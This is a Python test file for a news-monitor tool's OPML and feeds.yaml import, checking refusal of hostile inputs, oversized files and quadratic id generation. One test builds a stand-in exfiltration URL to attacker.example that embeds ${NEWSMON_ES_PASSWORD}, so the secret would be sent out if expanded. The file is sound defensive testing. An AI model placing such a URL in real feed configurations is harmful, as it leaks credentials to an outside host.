"""Hostile OPML files and feeds files: `${NEWSMON_ES_PASSWORD}` in an imported xmlUrl, any variable
named in feeds.yaml, 20,000 same-titled outlines (quadratic before: 245 s), and files past the
size and outline caps."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from newsmon.config import load_feeds
from newsmon.errors import ConfigError
from newsmon.reader.opml import MAX_OPML_BYTES, MAX_OUTLINES, feed_id, merge_into_yaml, parse_opml, read_opml


def opml(outlines: str) -> str:
    return f'<?xml version="1.0"?><opml version="2.0"><head/><body>{outlines}</body></opml>'


def test_opml_xmlurl_naming_newsmon_es_password_is_refused_with_a_note(tmp_path: Path) -> None:
    leaky = "https://attacker.example/c?p=${NEWSMON_ES_PASSWORD}"
    feeds, skipped = parse_opml(
        opml(f'<outline text="Leak" xmlUrl="{leaky}"/><outline text="Fine" xmlUrl="https://ok.example/rss"/>')
    )
    assert [f["url"] for f in feeds] == ["https://ok.example/rss"]
    assert len(skipped) == 1 and "contains '${'" in skipped[0] and "Leak" in skipped[0]
    target = tmp_path / "feeds.d" / "imported.yaml"
    report = merge_into_yaml(target, [{"id": "leak", "url": leaky}, *feeds])
    assert "${" not in target.read_text(encoding="utf-8")
    assert [f["url"] for f, _why in report.skipped] == [leaky]


def test_feeds_yaml_naming_newsmon_es_password_is_a_config_error(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("NEWSMON_ES_PASSWORD", "s3cret")
    path = tmp_path / "feeds.yaml"
    path.write_text("feeds:\n  - {id: leak, url: 'https://a.example/?p=${NEWSMON_ES_PASSWORD}'}\n")
    with pytest.raises(ConfigError) as err:
        load_feeds(path)
    message = str(err.value)
    assert "${NEWSMON_ES_PASSWORD} is not allowed" in message and "NEWSMON_FEED_*" in message
    assert str(path) in message and "feed leak" in message and "s3cret" not in message


def test_feeds_yaml_may_name_newsmon_feed_variables(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("NEWSMON_FEED_KEY", "k1")
    path = tmp_path / "feeds.yaml"
    path.write_text("feeds:\n  - {id: a, url: 'https://a.example/rss?key=${NEWSMON_FEED_KEY}'}\n")
    assert load_feeds(path).feeds[0].url == "https://a.example/rss?key=k1"


class CountingSet(set):
    """A set that counts membership tests: the work of making ids unique, without a clock."""

    checks = 0

    def __contains__(self, item: object) -> bool:
        self.checks += 1
        return super().__contains__(item)


def test_opml_of_20000_same_titled_outlines_is_linear() -> None:
    taken, counters = CountingSet(), {}
    ids = [feed_id("Same title", f"https://h{i}.example/rss", taken, counters) for i in range(20_000)]
    assert len(set(ids)) == 20_000 and ids[-1] == "same-title-20000"
    assert taken.checks < 3 * 20_000  # quadratic: about 200 million
    feeds, _ = parse_opml(
        opml(
            "".join(f'<outline text="Same title" xmlUrl="https://h{i}.example/rss"/>' for i in range(20_000))
        )
    )
    assert len({f["id"] for f in feeds}) == 20_000


def test_opml_file_past_the_byte_cap_is_refused(tmp_path: Path) -> None:
    big = tmp_path / "big.opml"
    with big.open("wb") as f:
        f.write(opml("").encode())
        f.truncate(MAX_OPML_BYTES + 1)
    with pytest.raises(ConfigError, match=f"too large: more than {MAX_OPML_BYTES} bytes"):
        read_opml(big)


def test_opml_file_past_the_outline_cap_is_refused(tmp_path: Path) -> None:
    many = tmp_path / "many.opml"
    many.write_text(opml('<outline text="x"/>' * (MAX_OUTLINES + 1)), encoding="utf-8")
    with pytest.raises(ConfigError, match=f"{MAX_OUTLINES + 1} outlines, the cap is {MAX_OUTLINES}"):
        read_opml(many)


def test_opml_import_through_the_cli_reports_the_refused_url(tmp_path: Path, monkeypatch) -> None:
    from newsmon.reader import operations
    from newsmon.settings import load_settings

    feeds = tmp_path / "feeds.yaml"
    feeds.write_text("feeds: []\n")
    monkeypatch.setenv("NEWSMON_FEEDS_FILE", str(feeds))
    source = tmp_path / "in.opml"
    source.write_text(opml('<outline text="Leak" xmlUrl="https://x.example/?p=${NEWSMON_ES_PASSWORD}"/>'))
    target, report = operations.import_opml(load_settings(), source)
    assert not report.added and any("contains '${'" in why for _f, why in report.skipped)
    assert not target.exists() or "${" not in yaml.safe_dump(yaml.safe_load(target.read_text()))
